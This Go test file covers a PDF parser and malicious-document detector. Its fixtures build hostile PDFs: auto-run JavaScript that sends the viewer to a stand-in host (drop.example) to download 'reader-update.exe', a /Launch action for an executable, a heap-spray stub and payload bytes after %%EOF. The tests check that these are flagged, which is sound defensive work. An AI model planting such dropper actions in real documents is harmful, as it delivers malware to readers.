package pdf

import (
	"strings"
	"testing"
	"testing/quick"

	"repro/internal/jsengine"
	"repro/internal/testutil"
)

func TestBenignDocumentParses(t *testing.T) {
	data := NewBuilder().Encode()
	doc, err := Parse(data)
	if err != nil {
		t.Fatal(err)
	}
	if len(doc.Objects) != 4 {
		t.Fatalf("objects = %d", len(doc.Objects))
	}
	if len(doc.Malformations) != 0 {
		t.Fatalf("benign document reports malformations: %v", doc.Malformations)
	}
	if doc.Objects[1].Dict["Type"] != "/Catalog" {
		t.Fatalf("catalog dict = %v", doc.Objects[1].Dict)
	}
	if !strings.Contains(doc.Objects[4].Stream, "Hello") {
		t.Fatalf("stream = %q", doc.Objects[4].Stream)
	}
	f, err := Inspect(data)
	if err != nil {
		t.Fatal(err)
	}
	if f.Malicious() {
		t.Fatalf("benign document flagged: %+v", f)
	}
}

func TestOpenActionJavaScript(t *testing.T) {
	js := `window.location.href = "http://drop.example/get?downloadAs=reader-update.exe";`
	data := NewBuilder().AddJavaScriptAction(js).Encode()
	f, err := Inspect(data)
	if err != nil {
		t.Fatal(err)
	}
	if !f.HasJavaScript || f.OpenActionJS == "" {
		t.Fatalf("findings = %+v", f)
	}
	if !f.Malicious() {
		t.Fatal("auto-open JS not flagged")
	}
	// The extracted JS is real enough for the sandbox to trace.
	tr, err := jsengine.ExecuteBudget(f.OpenActionJS, jsengine.DefaultBudget())
	if err != nil {
		t.Fatal(err)
	}
	if len(tr.Navigations) != 1 || len(tr.Downloads) != 1 {
		t.Fatalf("embedded JS trace = %+v", tr)
	}
}

func TestLaunchAction(t *testing.T) {
	data := NewBuilder().AddLaunchAction("C:\\temp\\Flash-Player.exe").Encode()
	f, err := Inspect(data)
	if err != nil {
		t.Fatal(err)
	}
	if f.LaunchTarget == "" || !strings.Contains(f.LaunchTarget, "Flash-Player.exe") {
		t.Fatalf("launch target = %q", f.LaunchTarget)
	}
	if !f.Malicious() {
		t.Fatal("executable launch not flagged")
	}
	// Launching a document viewer is not malicious by itself.
	doc2 := NewBuilder().AddLaunchAction("notes.txt").Encode()
	f2, err := Inspect(doc2)
	if err != nil {
		t.Fatal(err)
	}
	if f2.Malicious() {
		t.Fatalf("txt launch flagged: %+v", f2)
	}
}

func TestBrokenXrefDetected(t *testing.T) {
	data := NewBuilder().BreakXref().Encode()
	doc, err := Parse(data)
	if err != nil {
		t.Fatal(err)
	}
	if !hasMalformation(doc.Malformations, "bad-xref") {
		t.Fatalf("malformations = %v", doc.Malformations)
	}
	// Objects must still parse despite the broken xref (forgiving read).
	if len(doc.Objects) != 4 {
		t.Fatalf("objects despite bad xref = %d", len(doc.Objects))
	}
}

func TestMalformedPlusJavaScriptIsMalicious(t *testing.T) {
	// Non-auto-run JS alone is suspicious but tolerated; combined with a
	// deliberately broken xref it crosses the line.
	clean := NewBuilder()
	clean.objects = append(clean.objects, &Object{
		Num:  5,
		Dict: map[string]string{"S": "/JavaScript", "JS": "(var x = heapSpray();)"},
	})
	f, err := Inspect(clean.Encode())
	if err != nil {
		t.Fatal(err)
	}
	if f.Malicious() {
		t.Fatalf("non-auto JS alone flagged: %+v", f)
	}

	bad := NewBuilder().BreakXref()
	bad.objects = append(bad.objects, &Object{
		Num:  5,
		Dict: map[string]string{"S": "/JavaScript", "JS": "(var x = heapSpray();)"},
	})
	f2, err := Inspect(bad.Encode())
	if err != nil {
		t.Fatal(err)
	}
	if !f2.Malicious() {
		t.Fatalf("malformed+JS not flagged: %+v", f2)
	}
}

func TestContentAfterEOF(t *testing.T) {
	data := NewBuilder().AppendAfterEOF("MZ\x90 payload bytes").Encode()
	doc, err := Parse(data)
	if err != nil {
		t.Fatal(err)
	}
	if !hasMalformation(doc.Malformations, "content-after-eof") {
		t.Fatalf("malformations = %v", doc.Malformations)
	}
}

func TestMissingEOF(t *testing.T) {
	data := NewBuilder().Encode()
	truncated := data[:len(data)-len("%%EOF\n")]
	doc, err := Parse(truncated)
	if err != nil {
		t.Fatal(err)
	}
	if !hasMalformation(doc.Malformations, "missing-eof") {
		t.Fatalf("malformations = %v", doc.Malformations)
	}
}

func TestNotAPDF(t *testing.T) {
	if _, err := Parse([]byte("<html>not a pdf</html>")); err == nil {
		t.Fatal("HTML accepted as PDF")
	}
	if _, err := Inspect([]byte("")); err == nil {
		t.Fatal("empty input accepted")
	}
}

func TestHeaderNotAtStart(t *testing.T) {
	data := append([]byte("JUNKJUNK"), NewBuilder().Encode()...)
	doc, err := Parse(data)
	if err != nil {
		t.Fatal(err)
	}
	if !hasMalformation(doc.Malformations, "missing-header") {
		t.Fatalf("malformations = %v", doc.Malformations)
	}
	if len(doc.Objects) != 4 {
		t.Fatalf("objects = %d", len(doc.Objects))
	}
}

func TestDuplicateObjects(t *testing.T) {
	b := NewBuilder()
	b.objects = append(b.objects, &Object{Num: 3, Dict: map[string]string{"Type": "/Page"}})
	doc, err := Parse(b.Encode())
	if err != nil {
		t.Fatal(err)
	}
	if !hasMalformation(doc.Malformations, "duplicate-object") {
		t.Fatalf("malformations = %v", doc.Malformations)
	}
}

func TestJSWithParensSurvivesEscaping(t *testing.T) {
	js := `document.write("(nested (parens))"); window.open("http://x.example/");`
	data := NewBuilder().AddJavaScriptAction(js).Encode()
	f, err := Inspect(data)
	if err != nil {
		t.Fatal(err)
	}
	if f.OpenActionJS != js {
		t.Fatalf("JS round trip:\n got %q\nwant %q", f.OpenActionJS, js)
	}
}

func TestParseNeverPanicsOnFuzz(t *testing.T) {
	base := NewBuilder().AddJavaScriptAction(`app.alert(1);`).Encode()
	f := func(pos uint16, b byte) bool {
		data := append([]byte(nil), base...)
		data[int(pos)%len(data)] = b
		doc, err := Parse(data) // may error; must not panic
		if err == nil && doc != nil {
			Inspect(data)
		}
		return true
	}
	if err := quick.Check(f, testutil.QuickConfig(t, 600)); err != nil {
		t.Fatal(err)
	}
}

// TestNegativeXrefOffsetIsBroken pins an input the quick check above only
// hits by chance: an in-use xref entry with a negative offset is a broken
// table, not an index into the document.
func TestNegativeXrefOffsetIsBroken(t *testing.T) {
	base := string(NewBuilder().AddJavaScriptAction(`app.alert(1);`).Encode())
	at := strings.Index(base, " 00000 n")
	if at < 10 {
		t.Fatal("no in-use xref entry in the encoded document")
	}
	data := base[:at-10] + "-000000009" + base[at:]
	if !xrefBroken(data) {
		t.Fatal("negative xref offset not reported as broken")
	}
	if _, err := Inspect([]byte(data)); err != nil {
		t.Fatal(err)
	}
}

func hasMalformation(list []string, want string) bool {
	for _, m := range list {
		if m == want {
			return true
		}
	}
	return false
}

func BenchmarkInspect(b *testing.B) {
	data := NewBuilder().AddJavaScriptAction(`window.location.href = "http://x/y.exe";`).Encode()
	b.SetBytes(int64(len(data)))
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, err := Inspect(data); err != nil {
			b.Fatal(err)
		}
	}
}

// Fixture builders for hostile documents the generator never plants.

// AddLaunchAction attaches an /OpenAction launching an external file —
// the dropper vehicle.
func (b *Builder) AddLaunchAction(file string) *Builder {
	n := b.nextNum()
	b.objects = append(b.objects, &Object{
		Num: n,
		Dict: map[string]string{
			"Type": "/Action", "S": "/Launch",
			"F": "(" + escapePDFString(file) + ")",
		},
	})
	b.openAction = n
	return b
}

// AppendAfterEOF plants raw content after the %%EOF marker.
func (b *Builder) AppendAfterEOF(content string) *Builder {
	b.appendAfterEOF = content
	return b
}
